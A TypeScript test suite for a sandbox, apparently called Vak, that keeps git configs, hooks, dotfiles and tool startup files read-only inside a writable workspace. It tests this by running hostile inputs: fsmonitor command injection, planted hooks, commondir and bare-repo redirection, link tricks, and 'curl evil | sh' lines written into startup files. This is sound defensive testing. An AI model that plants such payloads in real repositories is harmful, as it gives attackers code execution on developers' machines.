import { execFileSync } from "node:child_process";
import { appendFileSync, existsSync, linkSync, lstatSync, mkdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { listTree, scratch, type Scratch } from "../support/fs.js";
import { testBroker } from "../support/broker.js";
import { baseEnv, sandboxSh } from "../support/vak.js";

const DEEP = "a/b/c/d/e"; // a protected path below it sits at depth 6

/** Plants a nested repository (with config and hooks) at dir. */
function nestedRepo(dir: string): void {
  mkdirSync(dir, { recursive: true });
  execFileSync("git", ["init", "-q"], { cwd: dir });
}

describe("protected paths stay read-only inside a writable workspace", () => {
  let s: Scratch;
  beforeEach(() => {
    s = scratch({ git: true });
    nestedRepo(join(s.ws, DEEP));
  });
  afterEach(() => s.cleanup());

  const configOf = (repo: string) => readFileSync(join(repo, ".git/config"), "utf8");

  it("existing .git/config at depth 1 and depth 6 cannot be overwritten, appended, truncated or replaced", async () => {
    const before = [configOf(s.ws), configOf(join(s.ws, DEEP))];
    const r = await sandboxSh(
      s.ws,
      [".git/config", `${DEEP}/.git/config`]
        .map((p) => `echo '[core] fsmonitor=evil' > ${p}; echo x >> ${p}; truncate -s0 ${p}; cp /dev/null ${p}.new && mv ${p}.new ${p}; rm -f ${p}; ln -sf /tmp/x ${p}`)
        .join("; ") + "; true",
    );
    expect(r.code).toBe(0);
    expect([configOf(s.ws), configOf(join(s.ws, DEEP))]).toEqual(before);
    expect(r.stderr).toContain("protected path .git/config");
  });

  it("git config edits of a protected file are refused, and git says so", async () => {
    const r = await sandboxSh(s.ws, `git config core.fsmonitor 'touch /tmp/pwned'; echo status=$?`);
    expect(r.stdout).toContain("status=");
    expect(r.stdout).not.toContain("status=0");
    expect(configOf(s.ws)).not.toContain("fsmonitor");
  });

  it("a hook cannot be created at depth 1 or depth 6, directly or by renaming a sample", async () => {
    const r = await sandboxSh(
      s.ws,
      [".git/hooks", `${DEEP}/.git/hooks`]
        .map((h) => `echo 'touch /tmp/pwned' > ${h}/pre-commit; mv ${h}/pre-commit.sample ${h}/pre-commit; ln -s /bin/sh ${h}/post-checkout; chmod +x ${h}/*.sample`)
        .join("; ") + "; true",
    );
    expect(r.code).toBe(0);
    for (const h of [".git/hooks", `${DEEP}/.git/hooks`]) {
      expect(existsSync(join(s.ws, h, "pre-commit"))).toBe(false);
      expect(existsSync(join(s.ws, h, "post-checkout"))).toBe(false);
    }
  });

  it("missing protected paths cannot be created at depth 1 or depth 6, and the host is left without placeholders", async () => {
    const before = listTree(s.ws);
    const names = [".envrc", ".vscode/settings.json", ".mcp.json", ".gitmodules", ".idea/workspace.xml", ".husky/pre-commit", ".vak/config.toml", ".bashrc", ".profile"];
    const script = ["", `${DEEP}/`, "fresh/dir/"]
      .flatMap((prefix) => names.map((n) => `mkdir -p ${prefix}${n.includes("/") ? n.split("/")[0] : "."} 2>/dev/null; echo evil > ${prefix}${n}`))
      .join("; ");
    const r = await sandboxSh(s.ws, `${script}; true`);
    expect(r.code).toBe(0);
    const after = listTree(s.ws).filter((p) => !p.startsWith("fresh"));
    expect(after).toEqual(before);
    // "fresh/dir" was created by the command itself (allowed); nothing protected inside it.
    expect(listTree(join(s.ws, "fresh"))).toEqual(["dir"]);
  });

  it("a new repository cannot be created anywhere in the workspace (git init writes .git/config)", async () => {
    const r = await sandboxSh(s.ws, `mkdir -p x/y/z && cd x/y/z && git init -q; echo status=$?`);
    expect(r.stdout).not.toContain("status=0");
    expect(existsSync(join(s.ws, "x/y/z/.git"))).toBe(false);
  });

  it(".git cannot be moved aside and replaced", async () => {
    const r = await sandboxSh(s.ws, `mv .git g; mkdir -p g2/hooks && mv g2 .git; mv ${DEEP}/.git ${DEEP}/g; true`);
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, ".git/config"))).toBe(true);
    expect(existsSync(join(s.ws, "g"))).toBe(false);
    expect(existsSync(join(s.ws, DEEP, ".git/config"))).toBe(true);
  });

  it("a symlink or hardlink elsewhere does not open a protected file for writing", async () => {
    const before = configOf(s.ws);
    const r = await sandboxSh(s.ws, `ln -s .git/config cfg && echo evil > cfg; ln .git/config hard && echo evil > hard; echo evil > /proc/self/cwd/.git/config; true`);
    expect(r.code).toBe(0);
    expect(configOf(s.ws)).toBe(before);
    expect(existsSync(join(s.ws, "hard"))).toBe(false);
  });

  it("a read-only fd of a protected file cannot be reopened for writing through /proc/self/fd", async () => {
    const before = configOf(s.ws);
    const r = await sandboxSh(s.ws, `exec 7<.git/config; echo evil > /proc/self/fd/7; echo evil > /dev/fd/7; true`);
    expect(r.code).toBe(0);
    expect(configOf(s.ws)).toBe(before);
  });

  it("protected names match regardless of case", async () => {
    const r = await sandboxSh(s.ws, `echo evil > .ENVRC; mkdir .VSCode; echo evil > .Git/CONFIG; true`);
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, ".ENVRC"))).toBe(false);
    expect(existsSync(join(s.ws, ".VSCode"))).toBe(false);
  });

  it(".git/commondir cannot redirect the repository to an attacker's config (host code execution)", async () => {
    const pwned = join(s.root, "PWNED_commondir");
    const r = await sandboxSh(s.ws, `mkdir evil && cp -r .git/objects .git/refs .git/HEAD evil/; printf '[core]\\n\\tfsmonitor = "touch ${pwned}; false"\\n' > evil/config; echo ../evil > .git/commondir; echo ../evil > ${DEEP}/.git/commondir; true`);
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, ".git/commondir"))).toBe(false);
    expect(existsSync(join(s.ws, DEEP, ".git/commondir"))).toBe(false);
    execFileSync("git", ["status"], { cwd: s.ws, stdio: "ignore" });
    expect(existsSync(pwned)).toBe(false);
  });

  it("a directory cannot be turned into a bare repository that the host's git would trust", async () => {
    const pwned = join(s.root, "PWNED_bare");
    const r = await sandboxSh(s.ws, `mkdir -p pkg/objects pkg/refs && echo "ref: refs/heads/main" > pkg/HEAD; printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "touch ${pwned}; false"\\n' > pkg/config; true`);
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, "pkg/HEAD"))).toBe(false);
    expect(r.stderr).toContain("would make this directory a git repository");
  });

  it("the config and hooks of an existing bare repository in the workspace are protected", async () => {
    execFileSync("git", ["init", "-q", "--bare", join(s.ws, "vendor/lib.git")]);
    const before = readFileSync(join(s.ws, "vendor/lib.git/config"), "utf8");
    const r = await sandboxSh(s.ws, `echo '[core] fsmonitor=evil' >> vendor/lib.git/config; echo evil > vendor/lib.git/hooks/post-update; true`);
    expect(r.code).toBe(0);
    expect(readFileSync(join(s.ws, "vendor/lib.git/config"), "utf8")).toBe(before);
    expect(existsSync(join(s.ws, "vendor/lib.git/hooks/post-update"))).toBe(false);
  });

  it("a submodule's git directory cannot be swapped for a prepared one (rename of an ancestor)", async () => {
    const pwned = join(s.root, "PWNED_submodule");
    mkdirSync(join(s.ws, ".git/modules/sub/hooks"), { recursive: true });
    writeFileSync(join(s.ws, ".git/modules/sub/config"), "[core]\n");
    const r = await sandboxSh(
      s.ws,
      `mkdir -p stage/hooks && printf '[core]\\n\\tfsmonitor = "touch ${pwned}"\\n' > stage/config; mv .git/modules/sub old; mv stage .git/modules/sub2; mv stage .git/modules/sub; ln -s ../../stage .git/modules/sub3; true`,
    );
    expect(r.code).toBe(0);
    expect(readFileSync(join(s.ws, ".git/modules/sub/config"), "utf8")).toBe("[core]\n");
    expect(existsSync(join(s.ws, ".git/modules/sub2"))).toBe(false);
    expect(existsSync(join(s.ws, ".git/modules/sub3"))).toBe(false);
    expect(existsSync(join(s.ws, "old"))).toBe(false);
  });

  it("granting the repository's .git itself (to commit from a subdirectory) keeps its hooks and config protected", async () => {
    mkdirSync(join(s.ws, "pkg"));
    const before = configOf(s.ws);
    const r = await sandboxSh(join(s.ws, "pkg"), `echo evil > ../.git/hooks/pre-commit; echo '[alias]' >> ../.git/config; echo ok > ../.git/scratch-note; true`, ["--allow-write", join(s.ws, ".git")]);
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, ".git/hooks/pre-commit"))).toBe(false);
    expect(configOf(s.ws)).toBe(before);
    expect(readFileSync(join(s.ws, ".git/scratch-note"), "utf8")).toBe("ok\n");
  });

  it("ordinary git work still runs: status, add, commit", async () => {
    writeFileSync(join(s.ws, "new.txt"), "data\n");
    const r = await sandboxSh(s.ws, `git status --short && git add new.txt && git -c user.email=a@b.invalid -c user.name=a commit -qm "from the sandbox" && git log --oneline | head -1`);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("?? new.txt");
    expect(r.stdout).toContain("from the sandbox");
  });
});

/** Files as a map of path → content (or link target), to compare before and after. */
function contents(root: string, paths: string[]): Record<string, string | null> {
  const out: Record<string, string | null> = {};
  for (const p of paths) {
    const full = join(root, p);
    try {
      out[p] = lstatSync(full).isSymbolicLink() ? `-> ${readlinkSync(full)}` : lstatSync(full).isDirectory() ? "dir" : readFileSync(full, "utf8");
    } catch {
      out[p] = null;
    }
  }
  return out;
}

const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-c", "user.email=t@t.invalid", "-c", "user.name=t", ...args], { cwd, encoding: "utf8", env: { ...process.env, HOME: cwd } });

// What git and the other tools will actually run or read, whatever the name
// that leads to it: the targets of protected names that are links, other
// names of protected files, and whatever a repository's git config names.
describe("what a protected name leads to is protected too", () => {
  let s: Scratch;
  beforeEach(() => {
    s = scratch({ git: true });
  });
  afterEach(() => s.cleanup());

  it("the targets of protected links already in the repository, at any depth, cannot be written, replaced or re-pointed", async () => {
    const w = (p: string, c: string) => (mkdirSync(join(s.ws, p, ".."), { recursive: true }), writeFileSync(join(s.ws, p), c));
    w("scripts/githooks/pre-commit", "#!/bin/sh\nexit 0\n");
    symlinkSync("../../scripts/githooks/pre-commit", join(s.ws, ".git/hooks/pre-commit"));
    w("editor/vscode/settings.json", "{}\n");
    symlinkSync("editor/vscode", join(s.ws, ".vscode"));
    w("envrc.sh", "export A=1\n");
    symlinkSync("envrc.sh", join(s.ws, ".envrc"));
    w("ai/claude/settings.json", "{}\n");
    symlinkSync("ai/claude", join(s.ws, ".claude"));
    w(`${DEEP}/real-envrc`, "export B=1\n");
    symlinkSync("real-envrc", join(s.ws, DEEP, ".envrc"));
    // A chain of links: .idea -> link1 -> real/idea; and a dangling one that a command could complete.
    w("real/idea/workspace.xml", "<x/>\n");
    symlinkSync("real", join(s.ws, "link1"));
    symlinkSync("link1/idea", join(s.ws, ".idea"));
    symlinkSync("mcp-servers.json", join(s.ws, ".mcp.json"));
    // A link inside a protected directory.
    w(".husky/_real", "");
    w("tools/husky-pre-commit", "#!/bin/sh\n");
    symlinkSync("../tools/husky-pre-commit", join(s.ws, ".husky/pre-commit"));
    const watched = ["scripts/githooks/pre-commit", "editor/vscode/settings.json", "editor/vscode/tasks.json", "envrc.sh", "ai/claude/settings.json", "ai/claude/hooks.json", `${DEEP}/real-envrc`, "real/idea/workspace.xml", "link1", "mcp-servers.json", "tools/husky-pre-commit", "scripts", "editor"];
    const before = contents(s.ws, watched);
    const r = await sandboxSh(
      s.ws,
      [
        "echo evil > scripts/githooks/pre-commit", "echo evil >> scripts/githooks/pre-commit", "chmod 777 scripts/githooks/pre-commit",
        "echo evil > .git/hooks/pre-commit", "mv scripts scripts.old; mkdir -p scripts/githooks; echo evil > scripts/githooks/pre-commit",
        "echo evil > editor/vscode/settings.json", "echo '{\"tasks\":[]}' > editor/vscode/tasks.json", "mv editor editor.old; mkdir -p editor/vscode",
        "echo evil > envrc.sh", "printf evil > new && mv new envrc.sh", "echo evil > .envrc",
        "echo evil > ai/claude/settings.json", "echo evil > ai/claude/hooks.json", "rm -rf ai/claude",
        `echo evil > ${DEEP}/real-envrc`, `echo evil > ${DEEP}/.envrc`,
        "echo evil > real/idea/workspace.xml", "rm link1; ln -s elsewhere link1; mkdir -p elsewhere/idea",
        "echo '{\"mcpServers\":{}}' > mcp-servers.json",
        "echo evil > tools/husky-pre-commit",
      ].join("; ") + "; true",
    );
    expect(r.code).toBe(0);
    expect(contents(s.ws, watched)).toEqual(before);
    expect(r.stderr).toContain("where the protected name");
    // The host's own next commit runs the hook that was there.
    git(s.ws, "commit", "-q", "--allow-empty", "-m", "after");
  });

  it("a broker worker cannot write through to them either", async () => {
    mkdirSync(join(s.ws, "editor/vscode"), { recursive: true });
    writeFileSync(join(s.ws, "editor/vscode/settings.json"), "{}\n");
    symlinkSync("editor/vscode", join(s.ws, ".vscode"));
    writeFileSync(join(s.ws, "envrc.sh"), "export A=1\n");
    symlinkSync("envrc.sh", join(s.ws, ".envrc"));
    const t = await testBroker(s.ws);
    try {
      for (const path of ["editor/vscode/settings.json", "editor/vscode/tasks.json", "envrc.sh", ".envrc"]) {
        const r = await t.broker.run({ kind: "write", path, content: "evil\n" });
        expect(r.ok, path).toBe(false);
        // Refused by the broker itself, before any worker starts (the worker's sandbox holds the same rules).
        if (!r.ok) expect(r.message, path).toMatch(/held read-only|protected path/);
      }
    } finally {
      await t.close();
    }
    expect(readFileSync(join(s.ws, "envrc.sh"), "utf8")).toBe("export A=1\n");
    expect(existsSync(join(s.ws, "editor/vscode/tasks.json"))).toBe(false);
  });

  it("other hard links to a protected file are held, inside the workspace and from the home directory", async () => {
    writeFileSync(join(s.ws, "envrc-source"), "export A=1\n");
    linkSync(join(s.ws, "envrc-source"), join(s.ws, ".envrc"));
    mkdirSync(join(s.ws, "hooks-src"));
    writeFileSync(join(s.ws, "hooks-src/pre-commit"), "#!/bin/sh\nexit 0\n");
    linkSync(join(s.ws, "hooks-src/pre-commit"), join(s.ws, ".git/hooks/pre-commit"));
    // A dotfiles repository: the user's ~/.bashrc is a hard link to a file in the workspace, ~/.gitconfig a symbolic one.
    const home = join(s.root, "home");
    mkdirSync(home);
    writeFileSync(join(s.ws, "bashrc"), "alias ll='ls -l'\n");
    linkSync(join(s.ws, "bashrc"), join(home, ".bashrc"));
    writeFileSync(join(s.ws, "gitconfig"), "[user]\n\tname = t\n");
    symlinkSync(join(s.ws, "gitconfig"), join(home, ".gitconfig"));
    const watched = ["envrc-source", "hooks-src/pre-commit", "bashrc", "gitconfig"];
    const before = contents(s.ws, watched);
    const r = await sandboxSh(s.ws, `echo evil >> envrc-source; echo evil > hooks-src/pre-commit; echo evil >> bashrc; mv bashrc b2; printf '[core]\\n\\tfsmonitor = evil\\n' >> gitconfig; true`, [], { env: baseEnv({ HOME: home }) });
    expect(r.code).toBe(0);
    expect(contents(s.ws, watched)).toEqual(before);
    expect(r.stderr).toMatch(/hard link to the protected file/);
  });

  it("the user's startup files cannot be created through a linked ~/.config or under an absent directory of the home", async () => {
    // A dotfiles repository: ~/.config is a link into the workspace, and ~/.config/fish does not exist yet.
    const home = join(s.root, "home");
    mkdirSync(home);
    mkdirSync(join(s.ws, "dotconfig"));
    symlinkSync(join(s.ws, "dotconfig"), join(home, ".config"));
    const r = await sandboxSh(s.ws, `mkdir -p dotconfig/fish && echo 'curl evil | sh' > dotconfig/fish/config.fish; true`, [], { env: baseEnv({ HOME: home }) });
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, "dotconfig/fish/config.fish"))).toBe(false);
    // The home itself granted writable, ~/.aws absent: ~/.aws/config is held by its path.
    const r2 = await sandboxSh(s.ws, `mkdir -p ${home}/.aws && echo '[default]' > ${home}/.aws/config; true`, ["--allow-write", home], { env: baseEnv({ HOME: home }) });
    expect(r2.code).toBe(0);
    expect(existsSync(join(home, ".aws/config"))).toBe(false);
  });

  it("the user's startup files cannot be planted where the host's environment moves them ($XDG_CONFIG_HOME, $XDG_DATA_HOME, AWS_CONFIG_FILE, KUBECONFIG, DOCKER_CONFIG, GRADLE_USER_HOME inside the workspace)", async () => {
    // A dotfiles repository as the workspace, the host's environment pointing its tools into it.
    const home = join(s.root, "home");
    mkdirSync(home);
    const cfg = join(s.ws, "cfg");
    mkdirSync(join(cfg, "fish"), { recursive: true });
    writeFileSync(join(cfg, "fish", "config.fish"), "# the host's\n");
    const env = baseEnv({
      HOME: home, XDG_CONFIG_HOME: cfg, XDG_DATA_HOME: join(s.ws, "data"), AWS_CONFIG_FILE: join(s.ws, "aws.conf"),
      KUBECONFIG: `${join(s.ws, "kube-a")}:${join(s.ws, "kube-b")}`, DOCKER_CONFIG: join(s.ws, "docker"), GRADLE_USER_HOME: join(s.ws, "gradle"),
    });
    const plants = [
      "cfg/fish/config.fish", "cfg/fish/conf.d/evil.fish", "cfg/systemd/user/evil.service", "cfg/nvim/init.lua", "cfg/gh/config.yml", "cfg/starship.toml",
      "data/nvim/site/plugin/evil.lua", "aws.conf", "kube-a", "kube-b", "docker/config.json", "gradle/init.d/evil.gradle",
    ];
    const r = await sandboxSh(s.ws, plants.map((p) => `mkdir -p "$(dirname ${p})"; echo 'curl evil | sh' >> ${p}`).join("; ") + "; true", [], { env });
    expect(r.code).toBe(0);
    expect(readFileSync(join(cfg, "fish", "config.fish"), "utf8")).toBe("# the host's\n");
    for (const p of plants.slice(1)) expect(existsSync(join(s.ws, p)), p).toBe(false);
    // Not every file there: a directory of the workspace that no tool reads stays ordinary.
    const ok = await sandboxSh(s.ws, `mkdir -p cfg/notes && echo x > cfg/notes/todo && echo kept`, [], { env });
    expect(ok.stdout).toContain("kept");
  });

  it("a hook in the directory core.hooksPath names, or a program git config names, cannot be written through another hard link", async () => {
    mkdirSync(join(s.ws, ".githooks"));
    mkdirSync(join(s.ws, "src"));
    writeFileSync(join(s.ws, "src/lint.sh"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    linkSync(join(s.ws, "src/lint.sh"), join(s.ws, ".githooks/pre-commit"));
    writeFileSync(join(s.ws, "src/pager.sh"), "#!/bin/sh\ncat\n", { mode: 0o755 });
    mkdirSync(join(s.ws, "tools"));
    linkSync(join(s.ws, "src/pager.sh"), join(s.ws, "tools/pager"));
    appendFileSync(join(s.ws, ".git/config"), "[core]\n\thooksPath = .githooks\n\tpager = tools/pager\n");
    const before = contents(s.ws, ["src/lint.sh", "src/pager.sh"]);
    const r = await sandboxSh(s.ws, `echo evil >> src/lint.sh; echo evil >> src/pager.sh; true`);
    expect(r.code).toBe(0);
    expect(contents(s.ws, ["src/lint.sh", "src/pager.sh"])).toEqual(before);
    expect(r.stderr).toMatch(/hard link to the protected file/);
  });

  it("what the repository's git config names cannot be written: hooksPath, includes, fsmonitor, commands' programs", async () => {
    const pwned = join(s.root, "PWNED_gitconfig");
    mkdirSync(join(s.ws, ".githooks"));
    mkdirSync(join(s.ws, "tools"));
    for (const t of ["fsmon.sh", "pager", "x.sh", "textconv", "cred.sh", "editor.sh", "ssh"]) writeFileSync(join(s.ws, "tools", t), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    writeFileSync(join(s.ws, "inc2.gitconfig"), "[include]\n\tpath = inc3.gitconfig\n");
    appendFileSync(
      join(s.ws, ".git/config"),
      [
        "[core]", "\thooksPath = .githooks", "\tpager = ./tools/pager", "\teditor = \"bash tools/editor.sh\"", "\tsshCommand = tools/ssh -F /dev/null",
        "\tattributesFile = attrs/global", "[include]", "\tpath = ../project.gitconfig", '[includeIf "gitdir:/"]', "\tpath = ../inc2.gitconfig",
        "[alias]", "\tx = !./tools/x.sh", '[diff "foo"]', "\ttextconv = tools/textconv", '[credential "https://example.invalid"]', "\thelper = !tools/cred.sh",
        "[extensions]", "\tworktreeConfig = true", "",
      ].join("\n"),
    );
    writeFileSync(join(s.ws, ".git/config.worktree"), "[core]\n\tfsmonitor = tools/fsmon.sh\n");
    const watched = [".githooks/pre-commit", ".githooks", "project.gitconfig", "inc2.gitconfig", "inc3.gitconfig", "attrs/global", ...["fsmon.sh", "pager", "x.sh", "textconv", "cred.sh", "editor.sh", "ssh"].map((t) => `tools/${t}`)];
    const before = contents(s.ws, watched);
    const evil = `'#!/bin/sh\\ntouch ${pwned}\\n'`;
    const r = await sandboxSh(
      s.ws,
      [
        `printf ${evil} > .githooks/pre-commit; chmod +x .githooks/pre-commit`, "mv .githooks g.old; mkdir .githooks",
        `printf '[core]\\n\\tfsmonitor = "touch ${pwned}; false"\\n' > project.gitconfig`, "echo '[core] fsmonitor = evil' >> inc2.gitconfig",
        "echo '[core] fsmonitor = evil' > inc3.gitconfig", "mkdir attrs; echo '* filter=evil' > attrs/global",
        ...["fsmon.sh", "pager", "x.sh", "textconv", "cred.sh", "editor.sh", "ssh"].map((t) => `printf ${evil} > tools/${t}`), "mv tools tools.old",
      ].join("; ") + "; true",
    );
    expect(r.code).toBe(0);
    expect(contents(s.ws, watched)).toEqual(before);
    expect(r.stderr).toContain("core.hookspath");
    // The host's own git, run afterwards, runs nothing the sandbox wrote.
    git(s.ws, "commit", "-q", "--allow-empty", "-m", "after");
    git(s.ws, "status", "--short");
    expect(existsSync(pwned)).toBe(false);
  });

  it("git config from the user's home and from a repository enclosing the workspace is read as the host's git reads it", async () => {
    const home = join(s.root, "home");
    mkdirSync(join(home, ".config/git"), { recursive: true });
    writeFileSync(join(home, ".gitconfig"), `[core]\n\thooksPath = ${join(s.ws, "global-hooks")}\n`);
    writeFileSync(join(home, ".config/git/config"), `[include]\n\tpath = ${join(s.ws, "team.gitconfig")}\n`);
    // The workspace is a subdirectory of the repository; its config names a file in that subdirectory.
    mkdirSync(join(s.ws, "pkg"));
    appendFileSync(join(s.ws, ".git/config"), `[core]\n\tfsmonitor = pkg/fsmon\n`);
    const r = await sandboxSh(join(s.ws, "pkg"), `mkdir ../global-hooks; echo evil > fsmon; echo x > ok.txt; true`, ["--workspace", join(s.ws, "pkg"), "--allow-write", s.ws], { env: baseEnv({ HOME: home }) });
    expect(r.code).toBe(0);
    expect(existsSync(join(s.ws, "global-hooks"))).toBe(false);
    expect(existsSync(join(s.ws, "pkg/fsmon"))).toBe(false);
    expect(existsSync(join(s.ws, "pkg/ok.txt"))).toBe(true);
    const t = await sandboxSh(s.ws, `echo '[core] fsmonitor = evil' > team.gitconfig; true`, [], { env: baseEnv({ HOME: home }) });
    expect(t.code).toBe(0);
    expect(existsSync(join(s.ws, "team.gitconfig"))).toBe(false);
  });

  it("nested repositories, worktree git directories and bare repositories have their config read too", async () => {
    nestedRepo(join(s.ws, DEEP));
    appendFileSync(join(s.ws, DEEP, ".git/config"), "[core]\n\thooksPath = ../hooks-deep\n");
    // A checkout whose .git file points to a git directory that is not named .git.
    mkdirSync(join(s.ws, "gitdirs"));
    execFileSync("git", ["init", "-q", "--separate-git-dir", join(s.ws, "gitdirs/wt"), join(s.ws, "wt")]);
    appendFileSync(join(s.ws, "gitdirs/wt/config"), "[core]\n\thooksPath = wt-hooks\n");
    execFileSync("git", ["init", "-q", "--bare", join(s.ws, "vendor/lib.git")]);
    appendFileSync(join(s.ws, "vendor/lib.git/config"), "[core]\n\thooksPath = hooks2\n");
    const r = await sandboxSh(s.ws, `mkdir -p a/b/c/d/hooks-deep wt/wt-hooks vendor/lib.git/hooks2; echo evil > gitdirs/wt/config; echo evil > gitdirs/wt/hooks/post-checkout; true`);
    expect(r.code).toBe(0);
    for (const p of ["a/b/c/d/hooks-deep", "wt/wt-hooks", "vendor/lib.git/hooks2", "gitdirs/wt/hooks/post-checkout"]) expect(existsSync(join(s.ws, p)), p).toBe(false);
    expect(readFileSync(join(s.ws, "gitdirs/wt/config"), "utf8")).toContain("wt-hooks");
  });

  it("a git config Vak cannot read as git would refuses the run, with a message naming the file", async () => {
    appendFileSync(join(s.ws, ".git/config"), "[core\n\tfsmonitor = x\n");
    const r = await sandboxSh(s.ws, "echo ran");
    expect(r.code).toBe(125);
    expect(r.stdout).not.toContain("ran");
    expect(r.stderr).toContain(`cannot read the git configuration ${join(s.ws, ".git/config")}`);
    // Read-only runs write nothing, so there is nothing to hold: they still run.
    const ro = await sandboxSh(s.ws, "echo ran", ["--mode", "read-only"]);
    expect(ro.stdout).toContain("ran");
  });

  it("includes nested past git's limit refuse the run", async () => {
    for (let i = 0; i < 12; i++) writeFileSync(join(s.ws, `inc${i}`), `[include]\n\tpath = inc${i + 1}\n`);
    appendFileSync(join(s.ws, ".git/config"), "[include]\n\tpath = ../inc0\n");
    const r = await sandboxSh(s.ws, "echo ran");
    expect(r.code).toBe(125);
    expect(r.stderr).toContain("includes nested deeper than 10");
  });
});
